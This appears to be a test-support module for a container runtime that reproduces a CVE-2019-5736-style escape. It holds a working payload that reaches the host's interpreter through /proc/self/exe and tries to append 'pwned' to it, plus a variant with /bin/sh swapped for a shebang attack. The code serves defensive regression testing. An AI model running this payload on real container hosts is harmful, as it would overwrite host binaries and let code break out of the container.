"""The container escape through the host's interpreter (CVE-2019-5736 class).

A container's first process is a fork of the Python runtime, so a container
whose command is /proc/self/exe runs the interpreter that started the
runtime. The attack, as an image ships it:

1. PID 1 (the host's interpreter, on the image's glibc and a few stdlib
   files) opens /proc/self/exe with O_PATH, reports what that file is
   (device, inode, read-only mount, seals) to /out/exe, and execs busybox's
   shell with the fd: from then on the container no longer executes the
   interpreter, so only processes outside can keep it busy (ETXTBSY).
2. The shell waits on the fifo /out/go: the test opens it once the runtime
   or the CLI it started has exited, so no process executes the interpreter.
3. It reopens the file through /proc/self/fd/N for writing, then appends to
   it, and reports both outcomes to /out/result.

The tests run the runtime and the CLI from a private copy of the
interpreter (pytest itself executes the venv's interpreter, which would keep
a shared file busy) and check the copy afterwards.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from portique.runtime.default_spec import default_spec
from support.rootfs import make_busybox_rootfs

STAGE2 = """
read _ < /out/go
if ( exec 5>>/proc/self/fd/$1 ) 2>/out/open.err; then open=opened; else open=denied; fi
if ( echo pwned >>/proc/self/fd/$1 ) 2>/out/write.err; then write=wrote; else write=denied; fi
echo "open=$open write=$write" >/out/result.tmp
mv /out/result.tmp /out/result
"""

# Python, run by the host's interpreter as the container's PID 1: report what
# /proc/self/exe is (device, inode, on a read-only mount, seals) to REPORT.
PROBE = """
import fcntl, os
fd = os.open("/proc/self/exe", os.O_PATH)
os.set_inheritable(fd, True)
st = os.stat(fd)
ro = os.statvfs(f"/proc/self/fd/{fd}").f_flag & os.ST_RDONLY
try:
    seals = fcntl.fcntl(os.open("/proc/self/exe", os.O_RDONLY), fcntl.F_GET_SEALS)
except OSError:
    seals = 0
with open(REPORT + ".tmp", "w") as f:
    f.write(f"{st.st_dev} {st.st_ino} {int(bool(ro))} {seals}\\n")
os.rename(REPORT + ".tmp", REPORT)
"""
# The whole attack: the probe, then stage 2 in busybox's shell with the fd.
ATTACK = (
    f'REPORT = "/out/exe"\n{PROBE}'
    f'os.execv("/bin/busybox", ["sh", "-c", {STAGE2!r}, "sh", str(fd)])\n'
)
# The attack on the second start only: the first exits 1 for the restart policy.
RESTART_ATTACK = (
    "import os\n"
    "if not os.path.exists('/out/started'):\n"
    "    open('/out/started', 'w').close()\n"
    "    raise SystemExit(1)\n"
    f"{ATTACK}"
)

# The command line of a container (or exec'd process) that attacks.
ATTACK_ARGS = ["/proc/self/exe", "-I", "-S", "-c", ATTACK]
# The image variant whose /bin/sh is the attack (`#!/proc/self/exe`).
SHEBANG_ARGS = ["/bin/sh", "-c", "true"]

# A createRuntime hook (host side, run by the system's python3): what the
# init's /proc/<pid>/exe is while it waits to execve the container's command.
HOOK = """
import json, os, sys
state = json.load(sys.stdin)
st = os.stat(f"/proc/{state['pid']}/exe")
with open(sys.argv[1], "w") as f:
    f.write(f"{st.st_dev} {st.st_ino}\\n")
"""
SEAL_ALL = 0xF  # F_SEAL_SEAL | SHRINK | GROW | WRITE


def _interpreter_libs(python: str) -> list[str]:
    """The shared objects `python` loads, its ELF interpreter included (from ldd)."""
    out = subprocess.run(["ldd", python], check=True, capture_output=True, text=True).stdout
    libs = []
    for line in out.splitlines():
        m = re.search(r"(/\S+) \(0x", line)
        if m:
            libs.append(m.group(1))
    return libs


def make_attack_rootfs(dest: Path, *, shebang: bool) -> Path:
    """busybox, the libraries the host's interpreter links, and the stdlib files it
    needs to start (the encodings package; os.py, the prefix landmark)."""
    make_busybox_rootfs(dest)
    python = os.path.realpath(sys.executable)
    for lib in _interpreter_libs(python):
        target = dest / lib.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(lib, target)
        os.chmod(target, 0o755)
    stdlib = Path(sysconfig.get_paths()["stdlib"])
    mine = dest / str(stdlib).lstrip("/")
    (mine / "encodings").mkdir(parents=True)
    (mine / "lib-dynload").mkdir()
    shutil.copyfile(stdlib / "os.py", mine / "os.py")
    for name in ("__init__", "aliases", "utf_8", "ascii", "latin_1"):
        shutil.copyfile(stdlib / "encodings" / f"{name}.py", mine / "encodings" / f"{name}.py")
    (dest / "out").mkdir()
    if shebang:
        sh = dest / "bin/sh"
        sh.unlink()
        sh.write_text(f"#!/proc/self/exe\n{ATTACK}")
        sh.chmod(0o755)
    return dest


@dataclass
class Interpreter:
    """A private copy of the host's interpreter, started by nothing but the test."""

    path: Path
    digest: str
    ident: tuple[int, int]

    @classmethod
    def copy_to(cls, dest: Path) -> Interpreter:
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(os.path.realpath(sys.executable), dest)
        dest.chmod(0o755)
        st = dest.stat()
        return cls(dest, file_digest(dest), (st.st_dev, st.st_ino))

    def env(self, **extra: str) -> dict[str, str]:
        """An environment in which the copy imports portique and its dependencies."""
        path = os.pathsep.join(p for p in sys.path if p and os.path.isdir(p))
        return dict(os.environ, PYTHONPATH=path, **extra)

    def unchanged(self) -> bool:
        return file_digest(self.path) == self.digest


def file_digest(path: Path) -> str:
    with open(path, "rb") as f:
        return hashlib.file_digest(f, "sha256").hexdigest()


@dataclass
class Report:
    exe_ident: tuple[int, int]
    exe_read_only: bool
    exe_seals: int
    opened: bool
    wrote: bool
    write_error: str


class Outbox:
    """The directory mounted at /out: the attack's reports and the go fifo."""

    def __init__(self, path: Path) -> None:
        self.path = path
        path.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path / "go")

    def _wait_for(self, name: str, timeout: float) -> str:
        deadline = time.monotonic() + timeout
        while not (self.path / name).exists():
            if time.monotonic() > deadline:
                raise AssertionError(f"the container wrote no /out/{name} in {timeout} s")
            time.sleep(0.02)
        return (self.path / name).read_text()

    def exe_report(self, timeout: float = 30) -> tuple[tuple[int, int], bool, int]:
        dev, ino, ro, seals = self._wait_for("exe", timeout).split()
        return (int(dev), int(ino)), ro == "1", int(seals)

    def hook_report(self, timeout: float = 30) -> tuple[int, int]:
        dev, ino = self._wait_for("hook", timeout).split()
        return int(dev), int(ino)

    def go(self, timeout: float = 30) -> None:
        """Release the shell (it opens the fifo for reading when it gets there)."""
        deadline = time.monotonic() + timeout
        while True:
            try:
                fd = os.open(self.path / "go", os.O_WRONLY | os.O_NONBLOCK)
                break
            except OSError as e:
                if e.errno != errno.ENXIO or time.monotonic() > deadline:
                    raise
                time.sleep(0.02)
        try:
            os.write(fd, b"go\n")
        finally:
            os.close(fd)

    def finish(self, timeout: float = 30) -> Report:
        """Wait for stage 1's report, release stage 2, and collect its outcome."""
        ident, ro, seals = self.exe_report(timeout)
        self.go(timeout)
        fields = dict(kv.split("=") for kv in self._wait_for("result", timeout).split())
        return Report(
            exe_ident=ident,
            exe_read_only=ro,
            exe_seals=seals,
            opened=fields["open"] == "opened",
            wrote=fields["write"] == "wrote",
            write_error=(self.path / "write.err").read_text().strip(),
        )


def _run(
    argv: list[str], env: dict[str, str] | None, timeout: float
) -> subprocess.CompletedProcess[str]:
    # Output to files: a detached container inherits the runtime's stdio.
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        proc = subprocess.run(
            argv, stdin=subprocess.DEVNULL, stdout=out, stderr=err, env=env, timeout=timeout
        )
        out.seek(0)
        err.seek(0)
        return subprocess.CompletedProcess(
            argv,
            proc.returncode,
            out.read().decode(errors="replace"),
            err.read().decode(errors="replace"),
        )


@dataclass
class RuntimeFrom:
    """portique-runtime through the lean launcher, on the given interpreter."""

    launcher: Path
    root: Path

    def __call__(self, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        proc = _run([str(self.launcher), "--root", str(self.root), *args], None, 60)
        if check and proc.returncode != 0:
            raise AssertionError(
                f"portique-runtime {' '.join(args[:2])} -> {proc.returncode}: {proc.stderr}"
            )
        return proc

    def bundle(self, dest: Path, rootfs: Path, args: list[str], outbox: Outbox) -> Path:
        """A bundle on `rootfs` running `args`, /out bound to the outbox, and a
        createRuntime hook that records what the waiting init's exe is."""
        spec: dict[str, Any] = default_spec()
        spec["root"] = {"path": str(rootfs), "readonly": True}
        spec["process"]["args"] = args
        spec["process"]["terminal"] = False
        spec["mounts"].append(
            {
                "destination": "/out",
                "type": "bind",
                "source": str(outbox.path),
                "options": ["rbind", "rw"],
            }
        )
        hook = {
            "path": "/usr/bin/python3",
            "args": ["python3", "-c", HOOK, str(outbox.path / "hook")],
        }
        spec["hooks"] = {"createRuntime": [hook]}
        dest.mkdir(parents=True)
        (dest / "config.json").write_text(json.dumps(spec))
        return dest


@dataclass
class EngineRoot:
    root: Path
    run_root: Path

    def env(self) -> dict[str, str]:
        return {"PORTIQUE_ROOT": str(self.root), "PORTIQUE_RUNROOT": str(self.run_root)}


@dataclass
class PortiqueFrom:
    """The portique CLI (`python -m portique`) on the given interpreter."""

    interp: Interpreter
    engine: EngineRoot

    def __call__(self, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        env = self.interp.env(**self.engine.env())
        proc = _run([str(self.interp.path), "-m", "portique", *args], env, 120)
        if check and proc.returncode != 0:
            raise AssertionError(
                f"portique {' '.join(args[:2])} -> {proc.returncode}: {proc.stderr}"
            )
        return proc
